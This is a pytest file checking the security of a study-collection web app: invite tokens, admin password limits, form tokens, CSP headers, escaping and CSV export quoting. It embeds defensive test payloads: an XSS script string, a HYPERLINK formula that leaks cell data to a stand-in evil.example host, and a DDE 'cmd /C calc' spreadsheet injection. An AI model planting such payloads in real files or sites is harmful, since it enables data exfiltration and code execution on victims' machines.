"""The collection app's safety: tokens, admin password, form tokens, escaping, rate limits, and no server errors on
any request the OpenAPI schema allows (schemathesis).

Candidate sets are filled with fixed texts, one of them HTML; tests/collect/test_browser.py runs the study on the
embedded model in Chromium.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import io
import json
import re
from datetime import timedelta

import pandas as pd
import pytest
import schemathesis
from hypothesis import HealthCheck, given, settings
from schemathesis.checks import not_a_server_error
from fastapi.testclient import TestClient
from sqlalchemy import select, update
from sqlalchemy.orm import Session

from pluralign.collect.app import create_app
from pluralign.collect.routes.api import FAILED
from pluralign.collect.export import export_table, write_export
from pluralign.collect.store import Store
from pluralign.collect.study import load_study
from pluralign.data import load_prompts
from pluralign.data.collection import CandidateSet, Choice, now
from pluralign.data.tables import csv_text

from ..conftest import invoke
from .conftest import write_study

PAYLOAD = "<script>window.pwned = 1</script><b>bold</b>"
PASSWORD = "s3cret-enough"
ADMIN = ("admin", PASSWORD)


def serve_study(tmp_path, **sections) -> tuple[Store, TestClient, list[str]]:
    """A study of three prompts (HTML in their texts and answers) with two people past the survey, and its app."""
    prompts = tmp_path / "prompts.jsonl"
    prompts.write_text("".join(json.dumps({"id": f"p{i}", "text": f"{PAYLOAD} question {i}", "language": "en"}) + "\n"
                               for i in range(3)))
    store = Store(load_study(write_study(tmp_path, str(tmp_path / "study.db"), prompts={"source": str(prompts)},
                                         overlap={"min_people": 1, "shared": 0, "quota": 3}, **sections)))
    store.migrate()
    store.add_prompts(load_prompts(prompts))
    for prompt in store.pending(10):
        store.fill(prompt["id"], [{"text": f"{PAYLOAD} answer {i}", "source": "test"} for i in range(3)])
    tokens = store.invite(2, "en")
    for token in tokens:
        person = store.person(token).id
        store.consent(person)
        store.save_survey(person, {})
    return store, client_of(create_app(store, PASSWORD, requests_per_minute=60)), tokens


def client_of(app) -> TestClient:
    """A client that reaches ``app`` as a browser on the same machine would (Host: 127.0.0.1)."""
    return TestClient(app, base_url="http://127.0.0.1")


@pytest.fixture
def served(tmp_path):
    return serve_study(tmp_path)


def form_fields(html: str) -> dict[str, str]:
    return dict(re.findall(r'name="(\w+)" value="([^"]*)"', html))


def api_choice(task: dict, nonce: str, **fields) -> dict:
    """A JSON API choice on ``task`` (as GET .../task gave it): its set, when it was shown and the form token."""
    return {"nonce": nonce, "set_id": task["set_id"], "shown_at": task["shown_at"], "form": task["form"], "position": 0,
            **fields}


def test_another_persons_token_cannot_read_or_answer_your_task(served):
    store, client, (alice, bob) = served
    alices = client.get(f"/api/a/{alice}/task").json()
    bobs = client.get(f"/api/a/{bob}/task").json()
    assert alices["set_id"] != bobs["set_id"]
    taken = client.post(f"/api/a/{bob}/choice", json=api_choice(alices, "bob-nonce-1"))
    assert taken.status_code == 403  # the task's form token is Alice's
    again = client.get(f"/api/a/{alice}/task").json()
    assert (again["state"], again["set_id"], again["finished"]) == ("task", alices["set_id"], 0)  # untouched
    assert client.get("/a/not-a-token").status_code == 404 and client.get("/api/a/not-a-token/task").status_code == 404


def test_a_choice_sent_with_task_1_answers_the_next_task_as_a_read_after_it_would(served):
    """The JSON API's one round trip per choice: ``?task=1`` adds the next task to the reply (its form token submits
    it), a retry of the same submit is a duplicate with that task, and the last choice of the quota says done."""
    store, client, (alice, _) = served  # a quota of 3
    task = client.get(f"/api/a/{alice}/task").json()
    unstamped = lambda body: {k: v for k, v in body.items() if k not in ("shown_at", "form")}  # noqa: E731
    for n in range(3):
        choice = api_choice(task, f"alice-nonce-{n}")
        reply = client.post(f"/api/a/{alice}/choice?task=1", json=choice).json()
        assert (reply["recorded"], reply["duplicate"]) == (True, False)
        again = client.post(f"/api/a/{alice}/choice?task=1", json=choice).json()
        assert (again["recorded"], again["duplicate"]) == (False, True)
        assert unstamped(again["task"]) == unstamped(reply["task"]) == unstamped(client.get(f"/api/a/{alice}/task").json())
        task = reply["task"]
        assert task["state"] == ("task" if n < 2 else "done") and task.get("finished", 3) == n + 1
    assert client.post(f"/api/a/{alice}/choice", json={**choice, "nonce": "alice-nonce-x"}).status_code == 409
    with Session(store.engine) as session:
        assert sorted(session.scalars(select(Choice.nonce))) == [f"alice-nonce-{n}" for n in range(3)]


def test_admin_pages_need_the_password(served):
    _, client, _ = served
    for path in ("/admin", "/api/admin/progress", "/admin/export.csv"):
        assert client.get(path).status_code == 401
        assert client.get(path, auth=("admin", "wrong")).status_code == 401
    assert client.get("/admin", auth=ADMIN).status_code == 200
    progress = client.get("/api/admin/progress", auth=ADMIN).json()  # nothing chosen: nulls, not NaN
    assert progress["agreement"] is None and progress["answered_sets"] == 0
    assert progress["groups"] == [{"label": "(no label)", "people": 2, "consented": 2, "surveyed": 0, "finished": 0,
                                   "choices": 0, "median_seconds": None}]  # both skipped every survey question
    assert {c["poles"]: (c["sets"], c["share"]) for c in progress["coverage"]}["all four"] == (0, None)


def test_a_form_without_its_token_is_refused_and_with_it_goes_through(served):
    store, client, (alice, _) = served
    page = client.get(f"/a/{alice}")
    fields = form_fields(page.text)
    fields["position"] = "1"
    refused = client.post(f"/a/{alice}/choice", data={**fields, "form": "0" * 64}, follow_redirects=False)
    missing = client.post(f"/a/{alice}/choice", data={k: v for k, v in fields.items() if k != "form"}, follow_redirects=False)
    assert refused.status_code == 403 and missing.status_code == 422
    another = client.post(f"/a/{alice}/choice", data={**fields, "set_id": str(int(fields["set_id"]) + 1)},
                          follow_redirects=False)
    assert another.status_code == 403  # the token is for this set, page and person only
    assert client.post(f"/a/{alice}/choice", data=fields, follow_redirects=False).status_code == 303
    assert client.post(f"/a/{alice}/choice", data=fields, follow_redirects=False).status_code == 303  # a double click
    assert client.get(f"/api/a/{alice}/task").json()["finished"] == 1


def test_a_ranking_study_asks_for_every_answer_ranked_on_the_page_and_in_the_api(tmp_path):
    store, client, (alice, bob) = serve_study(tmp_path, study={"rank": True})
    page = client.get(f"/a/{alice}").text
    assert page.count('<select name="rank"') == 3
    fields = {**form_fields(page), "position": "1"}
    for wrong in (["1", "1", "2"], ["1", "2", "3"]):  # a rank twice; the chosen answer (second on screen) not first
        assert client.post(f"/a/{alice}/choice", data={**fields, "rank": wrong}, follow_redirects=False).status_code == 422
    assert client.post(f"/a/{alice}/choice", data={**fields, "rank": ["3", "1", "2"]},
                       follow_redirects=False).status_code == 303
    task = client.get(f"/api/a/{bob}/task").json()
    assert task["rank"] is True
    choice = api_choice(task, "bob-ranks-1")
    unranked = client.post(f"/api/a/{bob}/choice", json=choice)
    assert unranked.status_code == 422 and "ranking" in unranked.text
    assert client.post(f"/api/a/{bob}/choice", json={**choice, "ranking": [0, 2, 1]}).status_code == 200
    with Session(store.engine) as session:
        stored = session.execute(select(Choice.person_id, Choice.order, Choice.ranking).order_by(Choice.person_id)).all()
    for (person, shown, ranking), positions in zip(stored, ([1, 2, 0], [0, 2, 1])):
        assert ranking == [shown[p] for p in positions]


def rank_menus(html: str) -> list[str]:
    """What a browser sends for each untouched rank menu: its selected option's value, else its first option's."""
    menus = re.findall(r'<select name="rank".*?</select>', html, re.DOTALL)
    return [(re.search(r'<option value="(\w*)"\s*selected', m) or re.search(r'<option value="(\w*)"', m)).group(1)
            for m in menus]


def test_rank_menus_start_unranked_so_an_untouched_ranking_is_refused_not_stored(tmp_path):
    store, client, (alice, _) = serve_study(tmp_path, study={"rank": True})
    page = client.get(f"/a/{alice}").text
    assert rank_menus(page) == ["", "", ""]
    untouched = {**form_fields(page), "position": "0", "rank": rank_menus(page)}
    refused = client.post(f"/a/{alice}/choice", data=untouched, follow_redirects=False)
    assert refused.status_code == 422 and "Rank every answer" in refused.text
    chosen_only = {**untouched, "rank": ["1", "", ""]}  # what the page's script sets when an answer is chosen
    assert client.post(f"/a/{alice}/choice", data=chosen_only, follow_redirects=False).status_code == 422
    with Session(store.engine) as session:
        assert session.scalar(select(Choice.id)) is None


def test_a_later_turn_that_times_out_or_fails_offers_a_retry_then_its_answers(served):
    store, client, (alice, _) = served
    fields = {**form_fields(client.get(f"/a/{alice}").text), "position": "0", "next_message": "And then?"}
    assert client.post(f"/a/{alice}/choice", data=fields, follow_redirects=False).status_code == 303
    assert 'id="waiting"' in client.get(f"/a/{alice}").text  # the second turn, written live by the worker
    set_id = client.get(f"/api/a/{alice}/task").json()["set_id"]
    with store.engine.begin() as connection:  # nobody has written it for longer than the study waits
        connection.execute(update(CandidateSet).where(CandidateSet.id == set_id)
                           .values(created_at=now() - timedelta(seconds=store.study.timeout + 1)))
    failed = client.get(f"/a/{alice}").text
    assert 'id="failed"' in failed
    assert client.get(f"/api/a/{alice}/task").json() == {"state": "failed", "set_id": set_id, "error": FAILED}
    with Session(store.engine) as session:  # why is kept for the study's team
        assert session.get(CandidateSet, set_id).error == "no answers after 120 s"
    assert client.post(f"/a/{alice}/retry", data=form_fields(failed), follow_redirects=False).status_code == 303
    assert 'id="waiting"' in client.get(f"/a/{alice}").text  # asked for again, the clock restarted
    store.fill(set_id, None, "RuntimeError: out of memory")  # as the worker records a generation that failed
    failed = client.get(f"/a/{alice}").text
    assert 'id="failed"' in failed
    client.post(f"/a/{alice}/retry", data=form_fields(failed))
    store.fill(set_id, [{"text": f"second-turn answer {i}", "source": "test"} for i in range(3)])
    page = client.get(f"/a/{alice}").text
    assert page.count("second-turn answer") == 3 and "Turn 2 of 2" in page


def test_html_in_prompts_answers_and_reasons_shows_as_text(served):
    _, client, (alice, _) = served
    page = client.get(f"/a/{alice}").text
    assert "<script>window.pwned" not in page and "&lt;script&gt;window.pwned = 1&lt;/script&gt;&lt;b&gt;bold" in page
    fields = {**form_fields(page), "position": "0", "rationale": PAYLOAD}
    client.post(f"/a/{alice}/choice", data=fields)
    admin = client.get("/admin", auth=ADMIN).text
    assert "<script>window.pwned" not in admin and admin.count("&lt;script&gt;window.pwned = 1&lt;/script&gt;") == 1


def test_input_lengths_are_bounded_and_requests_per_token_limited(served):
    _, client, (alice, bob) = served
    task = client.get(f"/api/a/{alice}/task").json()
    too_long = client.post(f"/api/a/{alice}/choice", json=api_choice(task, "long-nonce-1", rationale="x" * 2001))
    assert too_long.status_code == 422 and "rationale" in too_long.text
    codes = [client.get(f"/api/a/{alice}/task").status_code for _ in range(70)]
    assert codes.count(429) >= 10 and set(codes) == {200, 429}
    assert client.get(f"/api/a/{bob}/task").status_code == 200  # another person's limit is their own


def test_no_request_the_schema_allows_makes_a_server_error(served):
    """Every operation of the OpenAPI schema, 40 generated requests each, with a real invite token and the admin
    password (so bodies reach the code behind them, not only the 404 of an unknown token)."""
    store, _, (token, _) = served
    app = create_app(store, PASSWORD, requests_per_minute=100_000, hosts=["testserver"])  # schemathesis's Host
    schema = schemathesis.openapi.from_asgi("/openapi.json", app)
    for result in schema.get_all_operations():
        operation = result.ok()

        @given(case=operation.as_strategy())
        @settings(max_examples=40, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        def check(case) -> None:
            if "token" in (case.path_parameters or {}):
                case.path_parameters["token"] = token
            basic = base64.b64encode(f"admin:{PASSWORD}".encode()).decode()
            case.headers = {**(case.headers or {}), "Authorization": f"Basic {basic}"}
            case.call_and_validate(checks=[not_a_server_error])

        check()


FORMULAS = {"rationale": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")', "country": "=1+2",
            "languages": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_formulas_that_people_write_reach_the_csv_exports_as_text_and_parquet_as_written(served, tmp_path):
    store, client, (alice, _) = served
    assert client.post(f"/api/a/{alice}/survey", json={"country": FORMULAS["country"],
                                                       "languages": FORMULAS["languages"]}).status_code == 200
    task = client.get(f"/api/a/{alice}/task").json()
    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-formula",
                                                                 rationale=FORMULAS["rationale"])).status_code == 200
    def downloaded(shape: str) -> pd.DataFrame:
        return pd.read_csv(io.StringIO(client.get(f"/admin/export.csv?shape={shape}", auth=ADMIN).text), dtype=str)
    people = downloaded("annotators")
    assert list(people["country"].dropna()) == ["'=1+2"]
    assert list(people["languages"].dropna()) == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert list(downloaded("comparisons")["feedback"].dropna()) == ["'" + FORMULAS["rationale"]]
    assert list(downloaded("ca")["annotator_country"].dropna()) == ["'=1+2"]
    write_export(export_table(store.study, "comparisons"), tmp_path / "choices.parquet")  # `collect export`
    assert list(pd.read_parquet(tmp_path / "choices.parquet")["feedback"].dropna()) == [FORMULAS["rationale"]]


def test_csv_text_quotes_every_cell_that_starts_like_a_formula_and_leaves_numbers_and_json_alone():
    table = pd.DataFrame({"text": ["=1", "+1", "-1", "@A1", "\tx", "\rx", "plain", "a=b", None],
                          "number": [-1, 2, 3, 4, 5, 6, 7, 8, 9], "turns": [[{"role": "user"}]] * 9})
    back = pd.read_csv(io.StringIO(csv_text(table)), dtype=str, keep_default_na=False)
    assert list(back["text"]) == ["'=1", "'+1", "'-1", "'@A1", "'\tx", "'\rx", "plain", "a=b", ""]
    assert back["number"][0] == "-1" and json.loads(back["turns"][0]) == [{"role": "user"}]


def test_wrong_admin_passwords_are_limited_per_client_and_the_user_name_counts(served):
    _, client, _ = served
    assert client.get("/admin", auth=("anyone", PASSWORD)).status_code == 401
    codes = [client.get("/admin", auth=("admin", f"guess-{i}")).status_code for i in range(30)]
    assert codes == [401] * 9 + [429] * 21  # the wrong user name above was the first of ten
    locked = client.get("/admin", auth=ADMIN)
    # the minute is estimated from two clock minutes' counts: the wait can run into the next one
    assert locked.status_code == 429 and 0 < int(locked.headers["Retry-After"]) <= 120
    other = TestClient(client.app, base_url="http://127.0.0.1", client=("10.0.0.2", 50000))
    assert other.get("/admin", auth=ADMIN).status_code == 200  # another address has its own count


def test_made_up_invite_links_are_refused_without_writing_a_count(served):
    """Only invited people's requests are counted: invented tokens cannot fill the counts' table."""
    from sqlalchemy import func

    from pluralign.data.collection import RateCount

    store, client, _ = served

    def counts() -> int:
        with Session(store.engine) as session:
            return session.scalar(select(func.count()).select_from(RateCount))

    before = counts()
    assert {client.get(f"/api/a/made-up-{i}/task").status_code for i in range(20)} == {404}
    assert counts() == before


def test_wrong_admin_passwords_sent_at_once_get_no_more_answers_than_the_limit(served):
    """Each wrong guess is counted before it is answered, so forty sent together from eight threads get exactly
    GUESSES answers (401) and the rest 429; a look at the count before the answer let every guess of a burst through."""
    from concurrent.futures import ThreadPoolExecutor

    from pluralign.collect.web import GUESSES

    _, client, _ = served
    with ThreadPoolExecutor(8) as pool:
        codes = list(pool.map(lambda i: client.get("/admin", auth=("admin", f"guess-{i}")).status_code, range(40)))
    assert codes.count(401) == GUESSES and codes.count(429) == 40 - GUESSES, codes


@pytest.mark.parametrize("password", ["", "short"])
def test_an_empty_or_short_admin_password_is_refused_in_one_line_before_any_model_loads(tmp_path, password):
    study = write_study(tmp_path, str(tmp_path / "study.db"), candidates={"models": ["hf:no/such-model"]})
    result = invoke("collect", "serve", str(study), "--password", password)
    assert result.returncode == 2 and (result.stdout + result.stderr).count("\n") == 1
    assert "the admin password needs at least 12 characters" in result.stderr


def test_every_response_forbids_framing_sniffing_and_referrers_and_pages_run_only_their_own_script(served):
    _, client, (alice, _) = served
    page = client.get(f"/a/{alice}")
    policy = page.headers["Content-Security-Policy"]
    nonce = re.search(r"'nonce-([\w-]+)'", policy).group(1)
    assert f'<script nonce="{nonce}">' in page.text and f'<style nonce="{nonce}">' in page.text
    assert "frame-ancestors 'none'" in policy and f"script-src 'nonce-{nonce}'" in policy and "unsafe" not in policy
    assert nonce not in client.get(f"/a/{alice}").headers["Content-Security-Policy"]  # a new one each time
    for response in (page, client.get(f"/api/a/{alice}/task"), client.get("/admin"), client.get("/a/unknown")):
        assert response.headers["X-Frame-Options"] == "DENY" and response.headers["X-Content-Type-Options"] == "nosniff"
        assert response.headers["Referrer-Policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]


def test_a_request_naming_another_host_is_refused_unless_the_server_is_told_that_name(served):
    store, client, _ = served
    for host in ("127.0.0.1:8800", "localhost", "[::1]:8800"):
        assert client.get("/openapi.json", headers={"Host": host}).status_code == 200
    assert client.get("/openapi.json", headers={"Host": "evil.example"}).status_code == 400  # DNS rebinding
    told = client_of(create_app(store, PASSWORD, hosts=["study.example.org"]))
    assert told.get("/openapi.json", headers={"Host": "study.example.org"}).status_code == 200


def test_the_survey_is_locked_once_a_choice_is_made_on_the_page_and_in_the_api(served):
    store, client, (alice, _) = served
    assert client.post(f"/api/a/{alice}/survey", json={"political": "Left"}).status_code == 200
    task = client.get(f"/api/a/{alice}/task").json()
    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-first")).status_code == 200
    moved = client.post(f"/api/a/{alice}/survey", json={"political": "Right"})
    assert moved.status_code == 409 and "cannot change" in moved.text
    form = hmac.new(store.secret(), f"{store.person(alice).id}:survey".encode(), hashlib.sha256).hexdigest()
    assert client.post(f"/a/{alice}/survey", data={"form": form, "political": "Right"}).status_code == 409
    assert store.person(alice).survey == {"political": "Left"}


def test_survey_answers_must_be_the_studys_questions_and_options_and_bodies_are_bounded(served):
    store, client, (alice, _) = served
    assert client.post(f"/api/a/{alice}/survey", json={"political": "Left", "country": " France "}).status_code == 200
    for wrong, said in (({f"junk{i}": "" for i in range(50)}, "no question 'junk0'"),
                        ({"political": "Far out"}, "not an option of political")):
        refused = client.post(f"/api/a/{alice}/survey", json=wrong)
        assert refused.status_code == 422 and said in refused.text
    huge = client.post(f"/api/a/{alice}/survey", json={f"junk{i}": "" for i in range(10_000)})
    assert huge.status_code == 413 and huge.headers["X-Frame-Options"] == "DENY"  # refused with the security headers
    assert store.person(alice).survey == {"political": "Left", "country": "France"}


def test_the_seconds_a_choice_took_are_measured_by_the_server_not_told_by_the_client(served):
    store, client, (alice, bob) = served
    task = client.get(f"/api/a/{alice}/task").json()
    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-slow", seconds=86400)).status_code == 200
    task = client.get(f"/api/a/{bob}/task").json()
    earlier = {**task, "shown_at": f"{float(task['shown_at']) - 3600:.3f}"}  # a shown_at the server did not give
    assert client.post(f"/api/a/{bob}/choice", json=api_choice(earlier, "bob-early")).status_code == 403
    with Session(store.engine) as session:
        assert [0 <= s < 30 for s in session.scalars(select(Choice.seconds))] == [True]


def test_a_refused_page_is_a_page_in_the_persons_language_and_the_api_keeps_its_english(served):
    store, client, _ = served
    (french,) = store.invite(1, "fr")
    expired = client.post(f"/a/{french}/consent", data={"form": "0" * 64})
    assert expired.status_code == 403 and "<main" in expired.text and '<html lang="fr">' in expired.text
    assert "Cette page a expiré" in expired.text and f'href="/a/{french}"' in expired.text  # back to the task
    unknown = client.get("/a/not-a-token", headers={"Accept-Language": "fr-CH, en;q=0.5"})
    assert unknown.status_code == 404 and "Vérifiez que vous avez ouvert le lien complet" in unknown.text
    assert "Check that you opened the whole link" in client.get("/a/not-a-token").text  # the study's first language
    unreadable = client.post(f"/a/{french}/choice", data={"form": "x"})  # fields a page never leaves out
    assert unreadable.status_code == 422 and unreadable.headers["content-type"].startswith("text/html")
    assert "Une partie du formulaire" in unreadable.text
    assert client.post(f"/api/a/{french}/choice", json={}).json()["detail"][0]["type"] == "missing"  # JSON for scripts
    assert client.get("/api/a/not-a-token/task").text == "unknown invite link"
    busy = [client.get(f"/a/{french}") for _ in range(61)][-1]
    assert busy.status_code == 429 and "Attendez une minute" in busy.text and busy.headers["Retry-After"]


def test_declining_on_the_consent_page_is_recorded_and_asks_nothing_more(served):
    store, client, _ = served
    (person,) = store.invite(1, "it")
    page = client.get(f"/a/{person}").text
    assert 'id="decline"' in page and "Dr. Ada Lovelace, University of Somewhere" in page and "ada@example.org" in page
    assert client.post(f"/a/{person}/decline", data=form_fields(page), follow_redirects=False).status_code == 303
    thanks = client.get(f"/a/{person}").text
    assert "Hai scelto di non partecipare" in thanks and 'id="agree"' not in thanks
    client.post(f"/api/a/{person}/consent")  # agreeing later changes nothing
    assert client.get(f"/api/a/{person}/task").json() == {"state": "declined"}
    assert store.person(person).declined_at is not None and store.person(person).consented_at is None
    assert ">declined<" in client.get("/admin", auth=ADMIN).text


def test_survey_shows_yes_only_for_a_person_who_gave_an_answer(served):
    store, client, (alice, bob) = served
    assert client.post(f"/api/a/{alice}/survey", json={"political": "Left"}).status_code == 200  # bob skipped all
    people = client.get("/api/admin/progress", auth=ADMIN).json()["people"]
    assert {p["id"]: p["surveyed"] for p in people} == {store.person(alice).id: True, store.person(bob).id: False}
    rows = re.findall(r"<tr><td>(\d+)</td>.*?</tr>", client.get("/admin", auth=ADMIN).text, re.DOTALL)
    assert len(rows) == 2
    survey = re.findall(r"<td>(yes|)</td>\s*<td>\d+</td><td>\d+</td>", client.get("/admin", auth=ADMIN).text)
    assert survey == ["yes", ""]


def test_the_admin_downloads_trl_pairs_as_json_lines(served):
    _, client, (alice, _) = served
    task = client.get(f"/api/a/{alice}/task").json()
    assert client.post(f"/api/a/{alice}/choice", json=api_choice(task, "alice-trl")).status_code == 200
    assert 'href="/admin/export.jsonl?shape=trl"' in client.get("/admin", auth=ADMIN).text
    pairs = client.get("/admin/export.jsonl?shape=trl", auth=ADMIN)
    assert pairs.status_code == 200 and 'filename="pilot-trl.jsonl"' in pairs.headers["content-disposition"]
    rows = [json.loads(line) for line in pairs.text.splitlines()]
    assert len(rows) == 2 and rows[0]["chosen"][0]["role"] == "assistant"  # best of three: two pairs, lists kept


def test_the_admin_page_states_the_coverage_caveats_beside_its_table(served):
    _, client, _ = served
    page = client.get("/admin", auth=ADMIN).text
    caveats = " ".join(page.split('id="caveats"', 1)[1].split('id="coverage"', 1)[0].split())  # before the table
    assert "0 of the answered sets are later turns" in caveats and "counted with the shared first turns" in caveats
    assert "<code>embedded</code>, is a model that wrote the candidates (the default" in caveats
    assert "No accuracy of the judge is shown" in caveats
